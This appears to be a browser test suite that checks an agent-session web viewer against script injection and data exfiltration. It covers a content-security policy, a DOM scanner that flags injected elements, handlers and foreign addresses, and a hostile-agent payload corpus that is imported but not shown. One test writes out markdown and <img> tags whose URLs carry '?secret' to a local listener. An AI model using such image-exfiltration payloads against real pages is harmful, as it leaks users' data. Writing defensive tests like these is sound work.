"""Whatever an agent writes is shown, never run, and fetches nothing."""

import asyncio
from typing import Any

import pytest
from playwright.async_api import Page, expect

from tests.browser.pages import Desk, Tab
from tests.browser.payloads import HOST, PAYLOADS

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

TALL = {"width": 1280, "height": 5000}
"""So that many rows are in sight, and so in the document, at a time."""

WATCH = """() => {
  window.tried = [];
  addEventListener("securitypolicyviolation", (e) => window.tried.push(`${e.violatedDirective} ${e.blockedURI}`));
}"""

UNSAFE = """() => {
  const foreign = "script, iframe, frame, frameset, object, embed, applet, form, style, base, meta, link, math, video, audio, source, " +
    "template, slot, portal, fencedframe, marquee, map, area, noscript, svg:not([aria-hidden=true]), svg :not(path), details:not(.group)";
  const said = ".prose, [data-testid=item], [data-testid=approval], [data-testid=failure], [data-testid=turn]";
  const lines = [];
  for (const node of document.body.querySelectorAll("*")) {
    const inWords = node.closest(".prose");
    const shown = node.outerHTML.slice(0, 160);
    if (node.matches(foreign) && node.closest(said)) lines.push(`element ${shown}`);
    if (inWords && !node.matches(".code *") && node.matches("button:not(.target), input, select, textarea, [style], [id], [name], [data-testid]:not(.code)"))
      lines.push(`in words ${shown}`);
    for (const {name, value} of node.attributes) {
      if (/^on/i.test(name)) lines.push(`handler ${shown}`);
      if (/^(href|src|action|formaction|xlink:href|data|poster|background|srcset|ping|srcdoc)$/i.test(name)) {
        const url = new URL(value, document.baseURI);
        const mine = url.origin === location.origin;
        const web = name === "href" && /^(https?|mailto):$/.test(url.protocol) && node.rel === "noopener noreferrer";
        const image = name === "src" && node.tagName === "IMG" && /^data:image\\//.test(value);
        if (!mine && !web && !image) lines.push(`address ${shown}`);
        if (mine && inWords) lines.push(`ours ${shown}`);
      }
    }
  }
  for (const script of document.scripts) if (new URL(script.src).origin !== location.origin || script.text) lines.push("script");
  if (document.head.querySelectorAll("base").length !== 1 || document.head.querySelectorAll("style").length) lines.push("head");
  if (getComputedStyle(document.body).display !== "block" || document.body.id) lines.push("body");
  return lines;
}"""

UNFOLD = """() => {
  const folded = document.querySelectorAll("main [data-testid=transcript] button[aria-expanded=false]");
  for (const button of folded) button.click();
  for (const details of document.querySelectorAll("main [data-testid=transcript] details")) details.open = true;
  return folded.length;
}"""

STEP = """() => {
  const view = document.querySelector("[data-testid=transcript]");
  const before = view.scrollTop;
  view.scrollTop = before - view.clientHeight * 0.8;
  return view.scrollTop < before;
}"""

FRAMES = (
    "() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done))))"
)


class Watched:
    """A page of which it is known whether anything in it ran, asked or reached out."""

    def __init__(self, desk: Desk, tab: Tab) -> None:
        self.desk, self.tab = desk, tab
        self.foreign: list[str] = []
        self.dialogs: list[str] = []
        self.pages: list[Page] = []
        desk.context.on(
            "request", lambda asked: self.foreign.append(asked.url) if desk.foreign(asked.url) else None
        )
        desk.context.on("page", lambda page: self.pages.append(page))
        tab.page.on("dialog", self._on_dialog)

    async def _on_dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        await dialog.dismiss()

    async def is_harmless(self, policy: bool, *, whole: bool = False) -> None:
        """In what is in sight, unfolded; `whole`: in all of the conversation, from its end to its beginning."""
        page = self.tab.page
        seen = True
        while seen:
            while await page.evaluate(UNFOLD):
                await page.evaluate(FRAMES)
            assert await page.evaluate(UNSAFE) == []
            seen = whole and await page.evaluate(STEP)
            await page.evaluate(FRAMES)
        assert await page.evaluate("window.ran") is None
        if policy:
            assert await page.evaluate("window.tried") == [], "the policy had to stop something"
        assert (self.foreign, self.dialogs, self.pages) == ([], [], [])
        assert self.tab.errors == []
        assert page.url.startswith(self.desk.server.url)


async def watched(desk: Desk) -> Watched:
    """A new session with the hostile agent, in a tall window."""
    session = await asyncio.to_thread(desk.make_session, "claude")
    tab = await desk.tab(f"sessions/{session}")
    await tab.page.set_viewport_size(TALL)  # type: ignore[arg-type]
    await tab.is_live()
    return Watched(desk, tab)


async def test_the_policy_allows_no_foreign_script(desk: Desk) -> None:
    """Scripts are files of the page's own: nothing inline, nothing evaluated, on every address of the page."""
    for path in ("/", "/sessions/x", "/projects/x", "/nowhere"):
        policy = desk.api.get(path).headers["content-security-policy"]
        rules = {rule.split()[0]: rule.split()[1:] for rule in policy.split(";")}
        assert rules["script-src"] == ["'self'"]
        assert rules["default-src"] == ["'none'"]
        assert rules["form-action"] == rules["frame-ancestors"] == ["'none'"]
        assert "object-src" not in rules and "frame-src" not in rules, "both are default-src"


@pytest.mark.timeout(240)
@pytest.mark.parametrize("policy", [True, False], ids=["with-its-policy", "without-its-policy"])
async def test_nothing_that_an_agent_writes_runs(make_desk, policy: bool) -> None:
    """The corpus in messages (streamed, whole, reloaded), thoughts, plans, notes, tools, diffs, questions, titles, failures."""
    assert len(PAYLOADS) >= 100
    desk: Desk = await make_desk(module="tests.browser.hostile")
    await desk.sign_in(bypass_csp=not policy)
    await desk.context.add_init_script(f"({WATCH})()")
    watch = await watched(desk)
    tab = watch.tab
    await tab.done("words", limit_s=60)
    await watch.is_harmless(policy)
    await tab.done("tools", limit_s=60)
    await watch.is_harmless(policy)
    await tab.prompt("asks")
    await expect(tab.approval).to_be_visible(
        timeout=60_000
    )  # with a hundred fields, on a machine that may be busy
    assert await tab.page.evaluate(UNSAFE) == []
    await tab.option("allow-once").click()
    await tab.turn_is("completed")
    await expect(tab.by("session-title")).to_have_text(PAYLOADS[8])
    await tab.by("tasks").get_by_role("button").first.click()
    await tab.composer.fill("/")
    await expect(tab.by("command").first).to_be_visible()
    await watch.is_harmless(policy)
    await tab.composer.fill("")
    await tab.prompt("fails")
    await tab.turn_is("failed")
    await tab.prompt("\n".join(["echo", *PAYLOADS]))  # the person's own words, and an agent that repeats them
    await tab.turn_is("completed")
    await watch.is_harmless(policy)
    await tab.reload()
    await tab.turn_is("completed")
    await watch.is_harmless(policy, whole=True)


async def test_an_image_is_not_fetched(desk: Desk) -> None:
    """A picture's address can carry secrets away: nothing is fetched from elsewhere."""
    tab = await desk.session_tab()
    foreign: list[str] = []
    tab.page.on("request", lambda asked: foreign.append(asked.url) if desk.foreign(asked.url) else None)
    reached = asyncio.Event()

    def reach(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        reached.set()
        writer.close()

    stranger = await asyncio.start_server(reach, "127.0.0.1", 0)
    port = stranger.sockets[0].getsockname()[1]
    await tab.done(
        f"say ![x](http://127.0.0.1:{port}/?secret) <img src=http://127.0.0.1:{port}/2> ![y]({HOST}/3)"
    )
    await expect(tab.message.get_by_role("link", name="x")).to_be_visible()
    stranger.close()
    assert not reached.is_set()
    assert foreign == []
